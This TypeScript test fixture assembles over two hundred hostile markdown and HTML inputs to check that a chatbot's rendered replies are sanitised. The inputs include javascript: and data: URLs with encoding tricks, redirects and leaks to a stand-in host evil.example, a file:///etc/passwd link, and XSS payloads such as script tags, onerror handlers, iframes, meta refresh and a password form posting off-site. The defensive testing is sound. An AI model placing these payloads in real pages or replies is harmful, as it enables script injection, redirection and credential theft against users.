/** What a bot must never get into a page: more than 200 ways to run a script, to load something from elsewhere, or to lead there. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript:/movie/949',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'https://evil.example/?q=secret',
  'http://evil.example',
  '//evil.example/movie/949',
  '/\\evil.example/movie/949',
  '\\\\evil.example',
  'https:evil.example',
  '/movie/949@evil.example',
  '/movie/949/../../login',
  '/movie/949?next=//evil.example',
  '/movie/949#javascript:alert(1)',
  '/movie/９４９',
  '/identity/logout',
  '/api/user/export',
  'mailto:somebody@evil.example',
  'kinora://evil.example',
];

/** The ways that markdown knows to name an address. */
const forms: readonly ((address: string, place: number) => string)[] = [
  (address) => `[inline](${address})`,
  (address) => `[titled](${address} "onmouseover=alert(1)")`,
  (address) => `[angled](<${address}> 'x')`,
  (address, place) => `[referred][r${place}]\n\n[r${place}]: ${address} "title"`,
  (address) => `<${address}>`,
  (address) => `![picture](${address})`,
  (address, place) => `![referred picture][p${place}]\n\n[p${place}]: ${address}`,
  (address) => `**[![nested](${address})](${address})**`,
  (address) => `- > [deep *inside*](${address})`,
  (address) => `<a href="${address}" onclick="alert(1)">raw</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x" onerror="alert(1)">`,
];

const rawHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1) src=//evil.example/v></video>',
  '<audio src=//evil.example/a autoplay></audio>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=//evil.example/t></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<input type=image src=//evil.example/i>',
  '<table background=//evil.example/t><tr><td>x</table>',
  '<a href=/movie/949 target=_blank ping=https://evil.example>x</a>',
  '<section ids=949></section>',
  '<div id=bootstrap>{"site":{}}</div>',
  '`<img src=//evil.example/c onerror=alert(1)>`',
  '    <img src=//evil.example/code onerror=alert(1)>',
  '~~~html\n<script>alert(1)</script>\n~~~',
  '# <img src=//evil.example/h onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '| <img src=//evil.example/t> | x |\n|---|---|\n| a | b |',
  '[x]: https://evil.example\n[x] [x][] ![x] ![x][]',
  '[<img src=x onerror=alert(1)>](/movie/949)',
  '[x](/movie/949 "\\"><img src=x onerror=alert(1)>")',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  'https://evil.example www.evil.example somebody@evil.example',
  '[[x](https://evil.example)](/movie/949)',
  '[x](\u0000javascript:alert(1))',
  '[x](\u202Ejavascript:alert(1))',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<!DOCTYPE html SYSTEM "https://evil.example">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  // What has no end takes along all that follows it, so these come last.
  '<img src=//evil.example/unfinished onerror=alert(1)',
  '<script>alert(1)',
];

export const hostileReplies: readonly string[] = [
  ...addresses.flatMap((address, place) => forms.map((form) => form(address, place))),
  ...rawHtml,
];

/** A few messages that hold them all, none too long for the page. */
export function hostileMessages(): string[] {
  const messages = [''];
  for (const reply of hostileReplies) {
    if (`${messages.at(-1)}${reply}`.length > 5_000) messages.push('');
    messages.push(`${messages.pop()}${reply}\n\n`);
  }
  return messages;
}
